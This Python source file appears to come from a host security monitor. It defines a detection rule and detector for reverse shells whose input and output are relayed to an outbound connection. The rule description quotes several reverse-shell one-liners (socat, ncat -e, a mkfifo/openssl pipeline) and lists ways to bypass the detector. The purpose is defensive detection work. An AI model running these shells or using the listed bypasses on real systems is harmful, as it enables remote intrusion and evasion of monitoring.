# SPDX-License-Identifier: Apache-2.0
"""reverse_shell.relay: a shell's stdin and output are relayed to a connection by the process that holds it."""

from __future__ import annotations

from collector.detect import Finding, Rule, Severity, State
from collector.enrich.programs import shell_name
from probes.events import Event, Kind, RelayEvent

RULE = Rule(
    id="reverse_shell.relay",
    category="reverse_shell",
    severity=Severity.CRITICAL,
    description=(
        "A shell or interpreter's stdin and its stdout or stderr lead, through a pipe, a FIFO, a pty or a "
        "socketpair, to its parent or a sibling that holds an outbound TCP or UDP connection it opened: a shell "
        "driven over the network by a relay, which is how TLS-wrapped and pty-upgraded reverse shells look "
        "(`socat tcp:h:p exec:'bash -li',pty,stderr,setsid`, `ncat --ssl -e /bin/sh h p`, python "
        "`pty.spawn('/bin/sh')` after a connect, `mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect h:p "
        ">f`, `openssl s_client ... | sh | openssl s_client ...`, node's child_process with the socket piped "
        "in). Found from /proc when the shell execs or its helper connects, whichever is last "
        "(collector/enrich/relay.py). sshd's login and command shells are not relays: sshd holds an accepted "
        "connection, not one it opened; nor are `ssh host cmd | sh` (output to a terminal) or `tar c | ssh "
        "host tar x` (no shell). Known false positives: tools that pipe a local shell to a remote session on "
        "purpose (a CI runner's remote shell executor, tmate, `ssh -R` helpers spawning a shell on a pipe); "
        "an expect script driving `sh` while it holds an unrelated connection, over the same pty. Bypasses: a "
        "helper that is neither the shell's parent nor its sibling (a grandparent, or a process that "
        "receives the pipe over a unix socket), a relay that closes its connection between reads (HTTP "
        "polling C2), a helper whose pipe ends are passed on and closed, a connection made through io_uring "
        "or inherited rather than connect()ed, and /proc hidden from the agent."
    ),
    tags=("maturity_incubating", "host", "container", "process", "network", "mitre_execution", "T1059", "T1572"),
    consumes=frozenset({Kind.RELAY}),
)

LINKS = {"pipe": "a pipe", "fifo": "a FIFO", "pty": "a pty", "unix": "a socketpair"}


class RelayDetector:
    rule = RULE

    def detect(self, event: Event, state: State) -> list[Finding]:
        if not isinstance(event, RelayEvent):
            return []
        proc = state.processes.get(event.tgid)
        shell = shell_name(proc.exe, None, proc.args) if proc else None
        holder = state.processes.get(event.holder)
        peer = f"[{event.daddr}]:{event.dport}" if event.family == "ipv6" else f"{event.daddr}:{event.dport}"
        summary = (
            f"{event.comm} (pid {event.tgid}, {shell or 'a shell'}) has its stdin and output relayed through "
            f"{LINKS.get(event.link, event.link)} by {event.holder_comm} (pid {event.holder}), which holds a "
            f"connection to {peer}: a reverse shell"
        )
        evidence = {
            "signature": "shell stdio relayed to an outbound connection",
            "shell": shell,
            "link": event.link,
            "fds": event.fds,
            "holder": {
                "pid": event.holder,
                "comm": event.holder_comm,
                "exe": holder.exe if holder else None,
                "args": list(holder.args) if holder else [],
                "fd": event.fd,
            },
            "socket": {"daddr": event.daddr, "dport": event.dport, "family": event.family},
        }
        return [Finding(RULE, event, summary, evidence)]
